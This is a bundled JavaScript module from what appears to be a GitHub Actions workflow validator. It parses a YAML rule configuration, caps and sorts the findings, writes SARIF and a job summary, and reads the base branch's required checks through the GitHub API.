function dedupe(findings) {
    const seen = new Set();
    return findings.filter((f) => {
        const key = `${f.file}\0${f.line}\0${f.column}\0${f.ruleId}\0${f.message}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
/** Sorts by file, line, column, then rule id, as a compiler prints. */
function sortFindings(findings) {
    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || a.ruleId.localeCompare(b.ruleId)));
}
/** `file:line:col: level [id] message`, the compiler-like line of the command line and fixtures. */
function formatFinding(f) {
    return `${f.file}:${f.line}:${f.column}: ${f.level} [${f.ruleId}] ${f.message}`;
}

// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var yaml_dist = __webpack_require__(8815);
// EXTERNAL MODULE: ./.build/src/core/yaml-bounds.js
var yaml_bounds = __webpack_require__(9147);
;// CONCATENATED MODULE: ./.build/src/core/workflows/config.js
/**
 * `.github/phase-gates.yml`, the rule settings of workflows-validation (internal):
 *
 * ```yaml
 * rules:
 *   PG112: warning                 # change a level (error, warning, note)
 *   needs-cycle: off               # disable, by id or name
 * ignore:
 *   - test/fixtures/**             # files never checked
 * allow:
 *   owners: [acme]                 # trusted owners (security rules)
 *   actions: [docker/build-push-action]
 * ```
 *
 * Every error names the config file and line, all collected before failing.
 */




const EMPTY_CONFIG = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] } };
const LEVELS = ['error', 'warning', 'note', 'off'];
/**
 * Reads the config at `abs` (shown as `shown`). A missing file is no config unless `explicit`
 * (the user named it). `input` is the input errors are attributed to.
 */
async function loadConfig(abs, shown, input, explicit, rules) {
    let text;
    try {
        const stat = await external_node_fs_.promises.stat(abs);
        if (stat.size > yaml_bounds/* YAML_BOUNDS */.Y8.config.maxBytes) {
            const problem = await (0,yaml_bounds/* oversizeProblem */.jT)(abs, stat.size, yaml_bounds/* YAML_BOUNDS */.Y8.config);
            throw new core_errors/* UserError */.y(problem.message, { input, file: shown, line: problem.line });
        }
        text = await external_node_fs_.promises.readFile(abs, 'utf8');
    }
    catch (err) {
        if (err instanceof core_errors/* UserError */.y)
            throw err;
        if (err.code === 'ENOENT' && !explicit)
            return EMPTY_CONFIG;
        throw new core_errors/* UserError */.y(err.code === 'ENOENT' ? 'config file not found' : 'cannot read the config file', { input, file: shown });
    }
    return parseConfig(text, shown, input, rules);
}
/** Parses config text; all errors at once, each with file and line. */
function parseConfig(text, shown, input, rules) {
    (0,yaml_bounds/* checkYamlBounds */.jt)(text, yaml_bounds/* YAML_BOUNDS */.Y8.config, { input, file: shown });
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    // Aliases are never expanded here: only nodes are read, so an alias bomb costs nothing.
    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: true });
    const errors = [];
    const lineOf = (node) => (node?.range ? lineCounter.linePos(node.range[0]).line : undefined);
    const fail = (message, node, hint) => errors.push(new core_errors/* UserError */.y(message, { input, file: shown, line: lineOf(node), hint }));
    for (const e of doc.errors)
        errors.push(new core_errors/* UserError */.y(`invalid YAML: ${e.message.split('\n')[0]}`, { input, file: shown, line: e.linePos?.[0].line }));
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    const config = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] }, file: shown };
    const root = doc.contents;
    if (root === null || ((0,yaml_dist/* isScalar */.jn)(root) && (root.value === null || root.value === '')))
        return config;
    if (!(0,yaml_dist/* isMap */.jh)(root)) {
        fail('the config must be a mapping with rules:, ignore: and allow:', root);
        throw core_errors/* UserError */.y.several(errors);
    }
    const strings = (node, what) => {
        const n = node;
        if ((0,yaml_dist/* isScalar */.jn)(n) && typeof n.value === 'string')
            return [n.value];
        if (!(0,yaml_dist/* isSeq */.oP)(n)) {
            fail(`${what} must be a list of strings`, n);
            return [];
        }
        const out = [];
        for (const item of n.items) {
            if ((0,yaml_dist/* isScalar */.jn)(item) && typeof item.value === 'string' && item.value.trim())
                out.push(item.value.trim());
            else
                fail(`${what} must hold strings`, item);
        }
        return out;
    };
    for (const pair of root.items) {
        const key = (0,yaml_dist/* isScalar */.jn)(pair.key) ? String(pair.key.value) : '';
        const value = pair.value;
        if (key === 'rules') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('rules: must map rule ids or names to a level (error, warning, note) or off', value ?? pair.key);
                continue;
            }
            for (const r of value.items) {
                const name = (0,yaml_dist/* isScalar */.jn)(r.key) ? String(r.key.value) : '';
                const rule = rules.find((x) => x.id.toLowerCase() === name.toLowerCase() || x.name === name);
                if (!rule) {
                    fail(`unknown rule "${name}"`, r.key, `rules are ${rules.map((x) => x.id).join(', ')}`);
                    continue;
                }
                let setting = (0,yaml_dist/* isScalar */.jn)(r.value) ? r.value.value : undefined;
                if ((0,yaml_dist/* isMap */.jh)(r.value)) {
                    const level = r.value.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === 'level');
                    setting = level && (0,yaml_dist/* isScalar */.jn)(level.value) ? level.value.value : undefined;
                }
                if (setting === false)
                    setting = 'off';
                if (typeof setting !== 'string' || !LEVELS.includes(setting)) {
                    fail(`rule ${rule.id}: level must be error, warning, note or off`, r.value ?? r.key);
                    continue;
                }
                config.rules.set(rule.id, setting);
            }
        }
        else if (key === 'ignore') {
            config.ignore = strings(value, 'ignore:');
        }
        else if (key === 'allow') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('allow: must be a mapping with owners: and actions:', value ?? pair.key);
                continue;
            }
            for (const a of value.items) {
                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
                if (k === 'owners')
                    config.settings = { ...config.settings, allowOwners: strings(a.value, 'allow.owners') };
                else if (k === 'actions')
                    config.settings = { ...config.settings, allowActions: strings(a.value, 'allow.actions') };
                else
                    fail(`unknown key allow.${k}`, a.key, 'allow: takes owners and actions');
            }
        }
        else {
            fail(`unknown key "${key}"`, pair.key, 'the config takes rules, ignore and allow');
        }
    }
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    return config;
}
/** A glob of `ignore:` as a regular expression: `**` any path, `*` and `?` within a segment. */
function globToRegExp(glob) {
    let re = '';
    const g = glob.replace(/^\.\//, '');
    for (let i = 0; i < g.length; i++) {
        const c = g[i];
        if (c === '*' && g[i + 1] === '*') {
            i++;
            if (g[i + 1] === '/') {
                i++;
                re += '(?:.*/)?';
            }
            else
                re += '.*';
        }
        else if (c === '*')
            re += '[^/]*';
        else if (c === '?')
            re += '[^/]';
        else
            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
    }
    // A directory pattern covers everything below it.
    return new RegExp(`^${re}(?:/.*)?$`);
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/sarif.js
/** Where docs/rules.md is published; rule help links point at its headings. */
const RULES_DOCS_URL = 'https://github.com/phase-gates/phase-gates/blob/main/docs/rules.md';
/** The SARIF log of a run (an object; the caller serialises it). */
function toSarif(findings, options) {
    const index = new Map(options.rules.map((r, i) => [r.id, i]));
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: {
                    driver: {
                        name: 'phase-gates workflows-validation',
                        informationUri: RULES_DOCS_URL.replace(/\/blob\/.*$/, ''),
                        rules: options.rules.map((r) => ({
                            id: r.id,
                            name: r.name,
                            shortDescription: { text: r.description },
                            fullDescription: { text: r.help },
                            help: { text: `${r.description}\n\n${r.help}`, markdown: `**${r.id} ${r.name}**: ${r.description}\n\n${r.help}` },
                            helpUri: `${RULES_DOCS_URL}#${options.docsAnchor(r)}`,
                            defaultConfiguration: { level: r.level },
                            properties: { tags: ['workflows', 'github-actions'] }
                        }))
                    }
                },
                ...(options.omitted?.length
                    ? { invocations: [{ executionSuccessful: true, toolExecutionNotifications: options.omitted.map((text) => ({ level: 'note', message: { text } })) }] }
                    : {}),
                results: findings.map((f) => ({
                    ruleId: f.ruleId,
                    ...(index.has(f.ruleId) ? { ruleIndex: index.get(f.ruleId) } : {}),
                    level: f.level,
                    message: { text: f.message },
                    locations: [
                        {
                            physicalLocation: {
                                // Relative to the repository root, as code scanning resolves it.
                                artifactLocation: { uri: encodeURI(f.file) },
                                region: { startLine: f.line, startColumn: f.column }
                            }
                        }
                    ],
                    partialFingerprints: { primaryLocationLineHash: fingerprint(f) }
                }))
            }
        ]
    };
}
/** A stable fingerprint (rule, file, message), so that code scanning tracks a finding across commits. */
function fingerprint(f) {
    let h = 0x811c9dc5;
    for (const ch of `${f.ruleId}\0${f.file}\0${f.message}`) {
        h ^= ch.codePointAt(0);
        h = Math.imul(h, 0x01000193) >>> 0;
    }
    return h.toString(16).padStart(8, '0');
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/cap.js
/**
 * Which findings are shown (internal to workflows-validation): at most {@link SHOWN_PER_FILE} of a
 * file and {@link SHOWN_PER_RUN} of a run, errors before warnings before notes, so that a hostile
 * or broken file costs bounded annotations, log lines, summary, SARIF and outputs. The counts stay
 * the true totals; what is left out is said in one line per file.
 */

/** Most findings shown for one file. */
const SHOWN_PER_FILE = 100;
/** Most findings shown for one run, all files together. */
const SHOWN_PER_RUN = 1000;
const RANK = { error: 0, warning: 1, note: 2 };
/** The most severe `most` of `findings`, ties in their order. */
function mostSevere(findings, most) {
    if (findings.length <= most)
        return findings;
    return findings
        .map((f, i) => ({ f, i }))
        .sort((a, b) => RANK[a.f.level] - RANK[b.f.level] || a.i - b.i)
        .slice(0, most)
        .map((x) => x.f);
}
/** The findings to show of `findings` (all of a run), with what is left out per file. */
function capFindings(findings, perFile = SHOWN_PER_FILE, perRun = SHOWN_PER_RUN) {
    const byFile = new Map();
    for (const f of findings) {
        const list = byFile.get(f.file);
        if (list)
            list.push(f);
        else
            byFile.set(f.file, [f]);
    }
    let kept = [];
    for (const list of byFile.values())
        kept.push(...mostSevere(list, perFile));
    kept = mostSevere(sortFindings(kept), perRun);
    const shownOf = new Map();
    for (const f of kept)
        shownOf.set(f.file, (shownOf.get(f.file) ?? 0) + 1);
    const omitted = new Map();
    for (const [file, list] of byFile)
        if (list.length > (shownOf.get(file) ?? 0))
            omitted.set(file, list.length - (shownOf.get(file) ?? 0));
    return { shown: sortFindings(kept), total: findings.length, omitted };
}
/** Most files named in {@link omittedLines}; the rest are summed up in one more line. */
const OMITTED_FILES_NAMED = 100;
/**
 * One line per file with findings left out (`file: 2,345 more findings not shown (…)`), for at most
 * {@link OMITTED_FILES_NAMED} files, then one line for the other files together.
 */
function omittedLines(capped) {
    const n = (v) => v.toLocaleString('en-US');
    const more = (count) => `${n(count)} more finding${count === 1 ? '' : 's'}`;
    const why = `(at most ${n(SHOWN_PER_FILE)} a file and ${n(SHOWN_PER_RUN)} a run are shown; the counts are complete)`;
    const entries = [...capped.omitted];
    const lines = entries.slice(0, OMITTED_FILES_NAMED).map(([file, count]) => `${file}: ${more(count)} not shown ${why}`);
    const rest = entries.slice(OMITTED_FILES_NAMED);
    if (rest.length)
        lines.push(`${more(rest.reduce((sum, [, count]) => sum + count, 0))} in ${n(rest.length)} other files not shown ${why}`);
    return lines;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/summary.js

function cell(text) {
    return text.replace(/\|/g, '\\|').replace(/\r?\n/g, ' ');
}
/** Most rows shown in the summary table (the SARIF file holds every finding shown). */
const SUMMARY_ROWS = 200;
/** The summary of a run: `findings` all of them (for the counts), `capped` the ones shown. */
function renderSummary(findings, capped, fileCount, valid) {
    const errors = findings.filter((f) => f.level === 'error').length;
    const warnings = findings.filter((f) => f.level === 'warning').length;
    const head = `## Workflows validation: ${valid ? '✅ valid' : '❌ invalid'} (${fileCount} file${fileCount === 1 ? '' : 's'}, ${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'})\n\n`;
    if (!findings.length)
        return head + 'No finding.\n';
    const shown = capped.shown;
    const rows = shown.slice(0, SUMMARY_ROWS).map((f) => `| ${f.level === 'error' ? '❌ error' : f.level === 'warning' ? '⚠️ warning' : 'ℹ️ note'} | \`${f.ruleId}\` ${f.ruleName} | \`${cell(f.file)}:${f.line}:${f.column}\` | ${cell(f.message)} |`);
    const more = shown.length > SUMMARY_ROWS ? `\n${shown.length - SUMMARY_ROWS} more in the SARIF file.\n` : '';
    const left = omittedLines(capped);
    const omitted = left.length ? `\n${left.map((l) => `- ${cell(l)}`).join('\n')}\n` : '';
    return head + '| Level | Rule | Location | Message |\n| --- | --- | --- | --- |\n' + rows.join('\n') + '\n' + more + omitted;
}

;// CONCATENATED MODULE: ./.build/src/core/commands/validate.js
/**
 * workflows-validation: parses the workflows and action metadata named by `paths` with GitHub's
 * own parser, runs every rule of src/core/workflows/rules/, and reports the findings as annotations, a job
 * summary, SARIF 2.1.0 and the SPEC outputs. One broken file never hides the findings of the others.
 */












/**
 * The default `paths`: the SPEC's, and the places GitHub's conventions put local actions
 * (`.github/actions/<name>/`) and the `.yaml` spelling the runner also reads.
 */
const DEFAULT_PATHS = [
    '.github/workflows/*.yml',
    '.github/workflows/*.yaml',
    '.github/actions/*/action.yml',
    '.github/actions/*/action.yaml',
    'action.yml',
    'action.yaml',
    'actions/*/action.yml',
    'actions/*/action.yaml'
];
/** The SPEC's default config file. */
const DEFAULT_CONFIG = '.github/phase-gates.yml';
const VALIDATION_REPORT_SCHEMA = 'phase-gates/validation-report@1';
function failOnInput(host) {
    const v = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.FailOn, 'error').toLowerCase();
    if (v === 'error' || v === 'warning' || v === 'never')
        return v;
    throw new core_errors/* UserError */.y(`must be error, warning or never, not ${JSON.stringify(v)}`, { input: constants/* ValidationInputs */.PY.FailOn });
}
/**
 * A directory in `paths` means the workflows and action metadata under it: the `.yml`/`.yaml` files
 * directly in each `.github/workflows` (GitHub reads no subdirectory there), the directory itself
 * when it is one, and every `action.yml`/`action.yaml`. None found is an error naming the directory.
 */
async function workflowFilesUnder(dir, shown) {
    const isWorkflowsDir = (d) => external_node_path_.basename(d) === 'workflows' && external_node_path_.basename(external_node_path_.dirname(d)) === '.github';
    const files = (await (0,core_files/* filesUnder */.mz)(dir, shown, constants/* ValidationInputs */.PY.Paths)).filter((f) => /^action\.ya?ml$/.test(external_node_path_.basename(f)) || (isWorkflowsDir(external_node_path_.dirname(f)) && /\.ya?ml$/.test(f)));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`${shown} is a directory with no workflow (.github/workflows/*.yml) or action.yml under it`, { input: constants/* ValidationInputs */.PY.Paths });
    }
    return files;
}
/**
 * The files of `paths`, inside the workspace. With the default paths (also when the runner passes
 * action.yml's default), a pattern that matches nothing is normal (not every repository has
 * actions/); a pattern the user gave must match. A directory means the workflow files under it.
 */
async function selectFiles(host, ignore) {
    const given = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.Paths);
    const patterns = given ? (0,core_files/* splitList */.ry)(given) : DEFAULT_PATHS;
    const defaults = patterns.length === DEFAULT_PATHS.length && patterns.every((p, i) => p === DEFAULT_PATHS[i]);
    const excludes = patterns.filter((p) => p.startsWith('!'));
    const found = new Set();
    for (const pattern of patterns.filter((p) => !p.startsWith('!'))) {
        try {
            for (const f of await (0,core_files/* expandGlobs */.GE)(host.workspace, [pattern, ...excludes].join('\n'), constants/* ValidationInputs */.PY.Paths, workflowFilesUnder))
                found.add(f);
        }
        catch (err) {
            if (err instanceof core_errors/* UserError */.y && /^no file matches/.test(err.message) && defaults)
                continue;
            throw err;
        }
    }
    const files = [...found].filter((f) => !ignore.some((re) => re.test((0,core_files/* displayPath */.Gt)(host.workspace, f))));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`no workflow or action file to check (patterns: ${patterns.join(', ')})`, { input: constants/* ValidationInputs */.PY.Paths });
    }
    return files.sort();
}
/** The SPEC's default `required-checks`. */
const DEFAULT_REQUIRED_CHECKS = ['workflows_validation', 'gates_enforcer'];
/**
 * The base branch's required checks (branch protection ∪ rules for the branch), read through the
 * API when a token is given; undefined without one. The client is loaded only then.
 */
function requiredChecksSource(host, token) {
    const given = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.RequiredChecks);
    const expected = given ? (0,core_files/* splitList */.ry)(given) : DEFAULT_REQUIRED_CHECKS;
    const branchGiven = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.BaseBranch) || host.env.GITHUB_BASE_REF?.trim() || '';
    if (!token)
        return undefined;
    return {
        expected,
        async read() {
            const { createGitHubClient, clientOptionsFromEnv, repoFromEnv, withGitHubErrors } = await Promise.all(/* import() */[__webpack_require__.e(932), __webpack_require__.e(408)]).then(__webpack_require__.bind(__webpack_require__, 7408));
            const { owner, repo } = repoFromEnv({ GITHUB_SHA: '-', ...host.env });
            const client = createGitHubClient({ token, ...clientOptionsFromEnv(host.env), log: (m) => host.info(m) });
            const ctx = (doing) => ({ input: constants/* ValidationInputs */.PY.Token, doing, notFoundHint: 'check GITHUB_REPOSITORY and the `base-branch` input' });
            const branch = branchGiven ||
                (await withGitHubErrors(client, ctx(`reading repository ${owner}/${repo}`), async () => (await client.rest.repos.get({ owner, repo })).data.default_branch));
            const required = new Set();
            let partial = false;
            const status = (err) => (err instanceof Error && typeof err.status === 'number' ? err.status : 0);
            await withGitHubErrors(client, ctx(`reading branch protection of ${owner}/${repo}@${branch}`), async () => {
                try {
                    const { data } = await client.rest.repos.getBranchProtection({ owner, repo, branch });
                    for (const c of data.required_status_checks?.contexts ?? [])
                        required.add(c);
                    for (const c of data.required_status_checks?.checks ?? [])
                        required.add(c.context);
                }
                catch (err) {
                    if (status(err) === 404)
                        return; // not protected
                    if (status(err) === 403 && !/rate limit/i.test(String(err.message))) {
                        partial = true; // GITHUB_TOKEN cannot read branch protection (administration)
                        host.info(`branch protection of ${branch} not readable with this token (needs administration read); required checks from rulesets only`);
                        return;
                    }
                    throw err;
                }
            });
            await withGitHubErrors(client, ctx(`reading the rules of ${owner}/${repo}@${branch}`), async () => {
                const rules = await client.paginate(client.rest.repos.getBranchRules, { owner, repo, branch, per_page: 100 });
                for (const r of rules) {
                    if (r.type !== 'required_status_checks')
                        continue;
                    for (const c of r.parameters?.required_status_checks ?? [])
                        required.add(c.context);
                }
            });
            const list = [...required].sort();
            host.info(`required checks of ${branch}: ${list.join(', ') || 'none'}${partial ? ' (rulesets only)' : ''}`);
            return { branch, required: list, partial };
        }
    };
}
const ANNOTATION = { error: 'error', warning: 'warning', note: 'notice' };
async function runValidate(host) {
    const workspace = host.workspace;
    const failOn = failOnInput(host);
    const sarifGiven = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.SarifPath, constants/* Defaults */.Hw.ValidationSarif);
    const sarifFile = (0,core_files/* resolveOutputInWorkspace */.kc)(workspace, sarifGiven, constants/* ValidationInputs */.PY.SarifPath);
    const token = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.Token);
    if (token)
        host.setSecret(token);
    const configGiven = (0,inputs/* input */.hF)(host, constants/* ValidationInputs */.PY.Config);
    const configFile = (0,core_files/* resolveInWorkspace */.z1)(workspace, configGiven || DEFAULT_CONFIG, constants/* ValidationInputs */.PY.Config);
    // Missing is fine at the default path, also when the runner passes action.yml's default.
    const configRequired = Boolean(configGiven) && external_node_path_.normalize(configGiven) !== external_node_path_.normalize(DEFAULT_CONFIG);
    const config = await loadConfig(configFile, (0,core_files/* displayPath */.Gt)(workspace, configFile), constants/* ValidationInputs */.PY.Config, configRequired, RULES);
    const files = await selectFiles(host, config.ignore.map(globToRegExp));
    const parsed = [];
    for (const abs of files)
        parsed.push(await (0,parse/* loadFile */.ZN)(abs, (0,core_files/* displayPath */.Gt)(workspace, abs)));
    const requiredChecks = requiredChecksSource(host, token);
    if (!requiredChecks)
        host.info('required checks not verified: no `token` input to read the base branch protection and rulesets');
    const findings = await lint(parsed, { workspace, rules: RULES, ruleSettings: config.rules, settings: config.settings, requiredChecks });
    // Shown: at most 100 findings a file and 1,000 a run (errors first); the counts are of all.
    const capped = capFindings(findings);
    const omitted = omittedLines(capped);
    const errorCount = findings.filter((f) => f.level === 'error').length;
    const warningCount = findings.filter((f) => f.level === 'warning').length;
    const valid = errorCount === 0;
    const report = {
        schema: VALIDATION_REPORT_SCHEMA,
        valid,
        errorCount,
        warningCount,
        noteCount: findings.length - errorCount - warningCount,
        files: parsed.map((p) => p.source.path),
        findingCount: findings.length,
        findings: capped.shown.map((f) => ({ rule: f.ruleId, name: f.ruleName, level: f.level, file: f.file, line: f.line, column: f.column, message: f.message })),
        omitted: [...capped.omitted].map(([file, count]) => ({ file, count }))
    };
    await (0,core_files/* writeFileAtomic */.Zf)(sarifFile, JSON.stringify(toSarif(capped.shown, { rules: RULES, docsAnchor: docsAnchor, omitted }), null, 2) + '\n');
    host.setOutput(constants/* ValidationOutputs */.MZ.Valid, String(valid));
    host.setOutput(constants/* ValidationOutputs */.MZ.ErrorCount, String(errorCount));
    host.setOutput(constants/* ValidationOutputs */.MZ.WarningCount, String(warningCount));
    host.setOutput(constants/* ValidationOutputs */.MZ.SarifPath, (0,core_files/* displayPath */.Gt)(workspace, sarifFile));
    host.setOutput(constants/* ValidationOutputs */.MZ.Report, JSON.stringify(report));
    // Compiler-like lines for the log and the terminal; annotations where the runner reads them.
    for (const f of capped.shown)
        host.info(formatFinding(f));
    for (const line of omitted)
        host.info(line);
    if (host.env.GITHUB_ACTIONS === 'true') {
        for (const f of capped.shown) {
            host.annotate(ANNOTATION[f.level], f.message, { file: f.file, startLine: f.line, startColumn: f.column, title: `${f.ruleId} ${f.ruleName}` });
        }
        for (const line of omitted)
            host.annotate('notice', line, { title: 'findings not shown' });
    }
    await host.appendSummary(renderSummary(findings, capped, parsed.length, valid));
    host.info(`${parsed.length} file${parsed.length === 1 ? '' : 's'} checked: ${errorCount} error(s), ${warningCount} warning(s); SARIF in ${external_node_path_.relative(workspace, sarifFile) || sarifFile}`);
    const failing = failOn === 'never' ? 0 : failOn === 'warning' ? errorCount + warningCount : errorCount;
    const message = failing
        ? `workflows validation failed: ${errorCount} error(s) and ${warningCount} warning(s) in ${new Set(findings.map((f) => f.file)).size} file(s) (fail-on: ${failOn})`
        : undefined;
    return { ok: failing === 0, message, findings, report };
}


/***/ })

};
